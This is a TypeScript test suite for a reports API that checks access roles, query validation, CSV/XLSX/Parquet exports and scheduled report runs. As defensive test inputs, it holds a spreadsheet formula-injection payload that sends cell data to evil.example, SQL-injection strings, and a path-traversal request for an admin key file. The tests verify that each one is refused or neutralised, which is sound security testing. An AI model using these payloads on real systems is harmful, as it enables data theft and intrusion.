// Reports over HTTP: who may ask, what is refused by which name, files that spreadsheets and databases read and no formula is in, schedules that write them and
// tell of it.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance, HUGEINT } from '@duckdb/node-api';
import { readXlsx } from 'hucre/xlsx';
import t from 'tap';
import { writeParquet } from '../../gateway/projections/parquet.js';
import { duckDb } from '../../gateway/projections/store.js';
import { until } from '../until.js';
import { operator } from './callers.js';
import type { Answered } from './harness.js';
import { listening } from './listening.js';
import { type Shop, shop } from './shop.js';

const DAY_MS = 86_400_000;
const HOUR_MS = 3_600_000;
const EVIL = '=HYPERLINK("http://evil.example?x="&A1,"tea, ""the"" best")';
const TEA = { programme: 'shop', price: 10, delivery: 'physical', stockAsset: 'piece', name: EVIL };
const MORNING = { report: 'daily', cron: '0 6 * * *', period: 'day', format: 'csv' };

/** Until reports are answered. */
const answered = (ask: () => Promise<Answered>): Promise<Answered> =>
  until('reports are answered', async () => {
    const answer = await ask();
    return answer.body?.code !== 'SHARD_UNAVAILABLE' && answer;
  });

const asked = (of: Shop, path: string): Promise<Answered> => answered(() => of.ask(`GET ${path}`));

async function fileOf(of: Shop, path: string, accept?: string): Promise<[Response, Uint8Array]> {
  const headers = { Authorization: `Bearer ${of.key}`, ...(accept && { Accept: accept }) };
  const answer = await fetch(of.server.address + path, { headers });
  return [answer, new Uint8Array(await answer.arrayBuffer())];
}

t.test('reports over HTTP', async (t) => {
  const receiver = await listening(t);
  const serving = { webhookHosts: ['127.0.0.1'], reports: true };
  const of = await shop(t, [['goods/tea', TEA]], 2, {}, {}, serving);
  await of.ask('PUT /v1/assets/piece', { scale: 0 });
  await of.ask('POST /v1/webhooks', { url: receiver.url, types: ['report.*'] });
  for (const owner of ['a', 'b', 'c'])
    await of.ask('POST /v1/events', {
      ...{ programme: 'shop', type: 'CONSUME', owner, attributes: { amount: 250 } },
    });
  await of.ask('POST /v1/goods/tea/stock', { pieces: 10, reason: 'r' });
  for (const owner of ['a', 'b']) {
    const order = await of.ask('POST /v1/orders', { owner, goods: 'tea', quantity: 2 });
    t.equal(order.status, 201, order.text);
  }

  await t.test('every report is listed, and answered with the columns that it says', async (t) => {
    const { body } = await asked(of, '/v1/reports');
    t.equal(body.reports.length, 12);
    const needed: Record<string, string> = {
      ...{ cohorts: '?asset=points', funnel: '?steps=joined,event:CONSUME,redeem,order' },
    };
    for (const { name, columns } of body.reports) {
      const {
        status,
        body: told,
        text,
      } = await asked(of, `/v1/reports/${name}${needed[name] ?? ''}`);
      t.equal(status, 200, `${name}: ${text}`);
      t.same(told.columns, columns);
      t.match(told.asOf, /^0:\d+,1:\d+$/);
      for (const row of told.rows) t.equal(row.length, columns.length);
    }
    const { body: daily } = await asked(of, '/v1/reports/daily');
    t.equal(daily.rows.length, 1);
    t.same(daily.rows[0].slice(1), ['points', null, 900, 40, 40, 0, 3]);
    t.equal((await of.ask('GET /v1/reports')).body.state, 'following');
  });

  await t.test('what is not asked of it is refused, and named', async (t) => {
    const refused = async (path: string, code: string, field: string | undefined) => {
      const { body } = await of.ask(`GET /v1/reports/${path}`);
      t.match(body, { code, ...(field && { field }) }, path);
    };
    await refused('none', 'REPORT_NOT_FOUND', 'name');
    for (const [query, field] of [
      ['at=1', 'at'],
      ['goods=tea', 'goods'],
      ['strange=1', 'strange'],
      ['group=owner', 'group'],
      ['from=2026-02-30', 'from'],
      ['from=yesterday', 'from'],
      ['from=2026-11-02&to=2026-11-02', 'to'],
      ['from=0', 'from'],
      ['interval=', 'interval'],
    ] as const)
      await refused(`daily?${query}`, 'QUERY_INVALID', field);
    await refused('daily?asset=silver', 'ASSET_UNKNOWN', 'asset');
    await refused('daily?zone=Mars/Olympus', 'ZONE_UNKNOWN', 'zone');
    await refused(`liability?at=${of.server.engine.now() + DAY_MS}`, 'QUERY_INVALID', 'at');
    await refused('cohorts', 'QUERY_INVALID', 'asset');
    await refused('funnel', 'QUERY_INVALID', 'steps');
    for (const steps of ['joined', 'joined,event:', "joined,event:x';DROP", 'a,b'])
      await refused(`funnel?steps=${encodeURIComponent(steps)}`, 'QUERY_INVALID', 'steps');
    await refused('orders?limit=0', 'QUERY_INVALID', 'limit');
    await refused('orders?format=pdf', 'QUERY_INVALID', 'format');
    // A text that is asked for is a value, whatever is in it.
    const quoted = await asked(of, `/v1/reports/orders?programme=${encodeURIComponent("x'--")}`);
    t.match(quoted.body, { code: 'QUERY_INVALID', field: 'programme' });
  });

  await t.test('exchanges as files: no formula, no rounding, the same rows', async (t) => {
    const { body } = await asked(of, '/v1/reports/orders?limit=1');
    t.equal(body.isCut, true);
    t.equal(body.rows.length, 1);
    const { body: whole } = await asked(of, '/v1/reports/orders');
    t.equal(whole.isCut, false);
    const names = whole.columns.map(({ name }: { name: string }) => name);
    const [csv, bytes] = await fileOf(of, '/v1/reports/orders', 'text/csv');
    t.equal(csv.headers.get('content-type'), 'text/csv; charset=utf-8');
    t.match(
      csv.headers.get('content-disposition'),
      /^attachment; filename="orders-\d{8}-\d{8}\.csv"$/,
    );
    t.equal(csv.headers.get('x-jifen-rows'), '2');
    t.equal(csv.headers.get('x-jifen-as-of'), whole.asOf);
    const lines = Buffer.from(bytes).toString('utf8').split('\r\n');
    t.equal(lines[0], `\uFEFF${names.join()}`);
    t.equal(lines.length, 4);
    t.match(lines[1], `,tea,"'${EVIL.replaceAll('"', '""')}",2,points,20,`);
    const [, xlsx] = await fileOf(of, '/v1/reports/orders?format=xlsx&lang=zh');
    const { sheets } = await readXlsx(xlsx);
    const [head, first] = sheets[0]?.rows ?? [];
    t.equal(head?.[0], '兑换单号');
    t.equal(first?.[3], EVIL, 'as it is, as a text');
    t.equal(first?.[6], 20);
    t.notMatch(Buffer.from(xlsx).toString('latin1'), '<f>');
    const [, parquet] = await fileOf(of, '/v1/reports/orders?format=parquet');
    const path = join(t.testdir(), 'orders.parquet');
    writeFileSync(path, parquet);
    const database = await (await DuckDBInstance.create(':memory:')).connect();
    const read = await database.runAndReadAll(
      `SELECT number, owner, points, "time" FROM '${path}'`,
    );
    const told = read
      .getRowsJson()
      .map(([number, owner, ...more]) => [number, owner, ...more.map(Number)]);
    t.same(
      told,
      whole.rows.map((row: any[]) => [row[0], row[1], row[6], row[7]]),
    );
  });

  await t.test('sums in Parquet are whole numbers, and not rounded', async (t) => {
    const [, parquet] = await fileOf(of, '/v1/reports/daily?format=parquet');
    const [path, large] = [join(t.testdir(), 'daily.parquet'), join(t.testdir(), 'large.parquet')];
    writeFileSync(path, parquet);
    const database = await (await DuckDBInstance.create(':memory:')).connect();
    const rowsOf = async (sql: string) => (await database.runAndReadAll(sql)).getRowsJson();
    const types = await rowsOf(`DESCRIBE SELECT * FROM '${path}'`);
    t.same(
      types.filter(([, type]) => /DOUBLE|FLOAT/.test(String(type))),
      [],
      'no sum is a floating number',
    );
    t.equal(Number((await rowsOf(`SELECT earned FROM '${path}'`))[0]?.[0]), 900);
    const values = [2n ** 53n + 1n, -(2n ** 64n) - 1n, null, 0n];
    const rows = async function* () {
      yield values.map((value) => [value]);
    };
    await writeParquet(await duckDb(), large, [{ name: 'a "sum"', type: HUGEINT }], rows());
    const read = await rowsOf(`SELECT CAST(COLUMNS(*) AS VARCHAR) FROM '${large}'`);
    t.same(
      read.map(([value]) => value),
      values.map((value) => value?.toString() ?? null),
    );
  });

  await t.test('viewers see, configurers schedule, nobody else', async (t) => {
    const keys = await Promise.all(
      (['view', 'configure', 'read'] as const).map((one) => operator(of, [one])),
    );
    const may = async (request: string, body?: unknown): Promise<number[]> =>
      Promise.all(keys.map(async (headers) => (await of.ask(request, body, headers)).status));
    t.same(await may('GET /v1/reports/daily'), [200, 403, 403]);
    t.same(await may('GET /v1/report-schedules'), [200, 403, 403]);
    t.same(await may('PUT /v1/report-schedules/mine', MORNING), [403, 200, 403]);
    t.same(await may('DELETE /v1/report-schedules/mine'), [403, 200, 403]);
  });

  await t.test('a schedule is judged as a whole, and over the version that was seen', async (t) => {
    const put = (body: object) => of.ask('PUT /v1/report-schedules/morning', body);
    for (const [more, code, field] of [
      [{ report: 'none' }, 'REPORT_NOT_FOUND', 'report'],
      [{ cron: 'now' }, 'REPORT_SCHEDULE_INVALID', 'cron'],
      [{ cron: '* * * * *' }, 'REPORT_SCHEDULE_INVALID', 'cron'],
      [{ cron: '0,1 6 * * *' }, 'REPORT_SCHEDULE_INVALID', 'cron'],
      [{ zone: 'Mars/Olympus' }, 'ZONE_UNKNOWN', 'zone'],
      [{ parameters: { from: '2026-01-01' } }, 'REPORT_SCHEDULE_INVALID', 'parameters.from'],
      [{ parameters: { goods: 'tea' } }, 'QUERY_INVALID', 'parameters.goods'],
      [{ parameters: { asset: 'silver' } }, 'ASSET_UNKNOWN', 'parameters.asset'],
      [{ format: 'pdf' }, 'COMMAND_INVALID', 'format'],
    ] as const) {
      const { body } = await put({ ...MORNING, ...more });
      t.match(body, { code, field }, JSON.stringify(more));
    }
    const { body: first } = await put({ ...MORNING, ifVersion: 0 });
    t.match(first, { report: 'daily', runs: [] });
    t.match((await put({ ...MORNING, ifVersion: 0 })).body, { code: 'CHANGED_MEANWHILE' });
    const { body } = await put({ ...MORNING, state: 'paused', ifVersion: first.version });
    t.match(body, { state: 'paused', next: null, runs: [] });
    t.match((await of.ask('GET /v1/report-schedules/None')).body, {
      code: 'REPORT_SCHEDULE_NOT_FOUND',
    });
  });

  await t.test(
    'what is due is written once, and told; a file is fetched by its link',
    async (t) => {
      const path = '/v1/report-schedules/morning';
      t.equal((await of.ask(`PUT ${path}`, MORNING)).status, 200);
      // Seven o'clock of the next day in Shanghai, whatever time it is.
      of.later(DAY_MS - ((of.server.engine.now() + 8 * HOUR_MS) % DAY_MS) + 7 * HOUR_MS);
      await of.server.engine.acceptClock();
      const run = await until('it was run', async () => {
        const { body } = await of.ask(`GET ${path}`);
        return body.runs?.find((one: any) => one.state === 'done') ?? false;
      });
      t.match(run, { report: 'daily', rows: 1, format: 'csv' });
      const arrived = await until(
        'it is told',
        () => receiver.arrived.find(({ event }) => event.type === 'report.ready') ?? false,
      );
      t.match(arrived.event, {
        subject: 'reports/morning',
        data: { run: run.run, asOf: run.asOf },
      });
      t.notHas(arrived.event.data, 'attempts');
      const [answer, bytes] = await fileOf(of, new URL(arrived.event.data.link).pathname);
      t.equal(answer.status, 200);
      t.equal(bytes.length, run.bytes);
      t.match(
        Buffer.from(bytes).toString('utf8'),
        /\r\n\d{4}-\d\d-\d\d,points,,900,40,40,0,3\r\n$/,
      );
      // By hand: another run, of the same day; and of other schedules, wherever their records are.
      for (const name of ['one', 'two', 'three']) {
        await of.ask(`PUT /v1/report-schedules/${name}`, MORNING);
        const by = await of.ask(`POST /v1/report-schedules/${name}/run`);
        t.match(by.body, { state: 'done' }, by.text);
        t.equal((await of.ask(`DELETE /v1/report-schedules/${name}`)).status, 200);
      }
      const again = await of.ask(`POST ${path}/run`);
      t.match(again.body, { state: 'done', rows: 1 });
      t.equal((await of.ask(`DELETE ${path}`)).status, 200);
      for (const one of [run, again.body])
        t.match((await of.ask(`GET ${path}/runs/${one.run}`)).body, {
          code: 'REPORT_FILE_NOT_FOUND',
        });
      t.match((await of.ask(`GET ${path}/runs/..%2f..%2fadmin.key`)).body, {
        code: 'REPORT_FILE_NOT_FOUND',
      });
    },
  );
});
